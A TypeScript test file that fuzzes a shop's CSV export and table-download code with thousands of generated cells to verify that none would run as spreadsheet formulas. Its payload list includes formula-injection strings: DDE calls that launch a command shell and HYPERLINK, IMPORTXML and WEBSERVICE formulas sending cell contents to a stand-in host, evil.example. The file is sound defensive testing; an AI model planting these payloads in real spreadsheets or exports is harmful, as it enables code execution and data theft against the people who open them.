import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { tableAsCsv } from '../../src/channels/web/tables/table-as-csv.ts'
import { csvCell, guardCell } from '../../src/lib/csv-cell.ts'
import { seededRandom } from '../../src/lib/random.ts'
import { csvLine } from '../../src/services/audiences/export/csv-line.ts'

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n']
const BEFORE = ['', ' ', '  ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\t', '\r', '\n', '\0', '\u202e']
const COMMANDS = [
  '1+1',
  "cmd|'/c calc'!A1",
  'HYPERLINK("https://evil.example/?"&A1,"click")',
  'IMPORTXML("https://evil.example","//a")',
  'SUM(A1:A9)*1;2',
  'DDE("cmd";"/C calc";"!A0")',
  '2+5+cmd|"/C calc"!A0',
  'WEBSERVICE("https://evil.example/"&B2)',
]
const AFTER = ['', '"', '";=1+1', ',=1+1', '\n=1+1', '\r\n=1+1', '\t=1+1', ';@SUM(1)', '""', "'"]

/** Cells that somebody who hates the shop would import, 5,000 of them. */
function hostileCells(): string[] {
  const random = seededRandom('cells')
  const from = (items: readonly string[]): string => items[Math.floor(random() * items.length)] ?? ''
  return Array.from({ length: 5000 }, () => from(BEFORE) + from(SIGNS) + from(COMMANDS) + from(AFTER))
}

/** Whether a spreadsheet would run it, as they read: blanks and hidden characters skipped, full-width signs folded. */
const runs = (cell: string): boolean => {
  const read = cell.normalize('NFKC').replaceAll(/^[\s\p{Cf}\p{Cc}]+/gu, '')
  return /^[=+\-@]/.test(read) && !/^[+-]?[\d.,]+$/.test(read)
}

describe('cells that a spreadsheet would run', () => {
  const cells = hostileCells()

  test.each([',', ';', '\t'])(
    'are none in 5,000 of an export, also for a program that parts cells by %j',
    (delimiter) => {
      const written = cells.map((cell) => csvLine([cell, 'C-1'])).join('')
      const rows: string[][] = parse(written, { delimiter, relax_column_count: true, relax_quotes: true })
      expect(rows.flat().filter(runs)).toEqual([])
    },
  )

  test('are none in 5,000 of a table saved from the page, its headings too', () => {
    const key = '=1+1'
    const written = tableAsCsv({
      columns: [{ key, label: 'x', unit: 'text' }],
      rows: cells.map((cell) => ({ [key]: cell })),
      total_rows: cells.length,
    })
    const rows: string[][] = parse(written)
    expect(rows).toHaveLength(cells.length + 1)
    expect(rows.flat().filter(runs)).toEqual([])
  })

  test('come back whole: nothing is lost but for the apostrophe', () => {
    const rows: string[][] = parse(cells.map((cell) => csvLine([cell])).join(''), { record_delimiter: '\r\n' })
    expect(rows.map(([cell]) => cell?.replace(/^'/, ''))).toEqual(cells)
  })
})

test('numbers and telephone numbers stay what they are', () => {
  for (const harmless of ['-3', '+8613800138000', '-1,234.50', '1e-7', '-2.5E+3', '.5', 'C-1', 'a-b', '', "it's"]) {
    expect(guardCell(harmless)).toBe(harmless)
  }
  expect(csvCell('-1,234.50')).toBe('"-1,234.50"')
})
